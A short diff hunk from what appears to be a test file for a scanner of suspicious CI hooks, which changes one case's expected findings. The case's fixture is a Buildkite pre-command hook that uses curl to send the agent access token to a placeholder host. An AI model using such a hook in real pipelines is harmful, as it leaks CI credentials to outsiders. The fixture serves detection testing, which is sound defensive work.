@@ -54,7 +54,7 @@ test.each([
     {
       ".buildkite/hooks/pre-command": '#!/bin/bash\ncurl -s -H "k: $BUILDKITE_AGENT_ACCESS_TOKEN" https://x.example/\n',
     },
-    ["strong", "strong"],
+    ["strong"],
   ],
   [
     "a phrase that opens a wallet",
